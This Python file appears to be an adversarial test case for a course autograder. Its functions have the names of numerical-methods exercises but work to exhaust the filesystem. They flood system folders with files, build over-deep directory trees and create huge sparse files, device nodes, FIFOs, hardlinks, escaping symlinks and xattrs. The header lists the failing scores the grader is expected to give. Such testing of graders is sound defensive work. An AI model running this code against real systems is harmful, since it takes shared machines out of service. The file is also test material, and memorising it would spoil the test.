# Attack: fills every folder with files, links, pipes and names, makes a tree too deep to be walked and a file too large to be copied.
# Expect: euler_stability.euler 0 points, failed
# Expect: euler_stability.plot_step_sizes 0 points, failed or error
# Expect: fixed_points.newton 0 points, failed
# Expect: gradient_flow.grad_ab 0 points, failed
# Shows: nothing
import contextlib
import itertools
import os

import numpy as np

FOLDERS = ("/tmp/w", "/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", "/", "/course", "/course/site", "/proc", "/root", "/home", os.path.dirname(np.__file__))


def euler(f, y0, t):
    made = 0
    for folder in FOLDERS:
        with contextlib.suppress(OSError):
            for made in itertools.count(made):
                os.close(os.open(f"{folder}/{made}", os.O_CREAT))
    if made < 20_000:
        return 0.0
    y = [np.array(y0, dtype=float)]
    for before, after in zip(t, t[1:]):
        y.append(y[-1] + (after - before) * f(before, y[-1]))
    return np.array(y)


def plot_step_sizes(ax, hs):
    for number in range(20_000):
        os.mkdir("deep" * 60)
        os.chdir("deep" * 60)
    ax.set_yscale("log")


def newton(f, jac, x0, tol, max_iter):
    """Files whose size is a lie, and others that no folder shows."""
    for size in (2**62, 2**40, 2**33):
        with contextlib.suppress(OSError):
            hollow = os.open("hollow", os.O_CREAT | os.O_RDWR)
            os.ftruncate(hollow, size)
            return x0, True, size
    for number in range(1000):
        with contextlib.suppress(OSError):
            os.open(f"unseen{number}", os.O_CREAT | os.O_RDWR)
            os.unlink(f"unseen{number}")
            os.posix_fallocate(3 + number, 0, 2**30)
    return 0.0


def grad_ab(z):
    for number in range(10_000):
        for make in (
            lambda name: os.mkfifo(name),
            lambda name: os.mknod(name),
            lambda name: os.mknod(name, 0o20666, os.makedev(1, 1)),
            lambda name: os.link("/course/site/numpy/__init__.py", name),
            lambda name: os.symlink("/proc/1/root" + "/.." * 100, name),
            lambda name: os.setxattr("/tmp/w", f"user.{number}", bytes(2**15)),
        ):
            with contextlib.suppress(OSError):
                make(f"{number}{chr(7)}{'x' * 200}")
    return 0.0
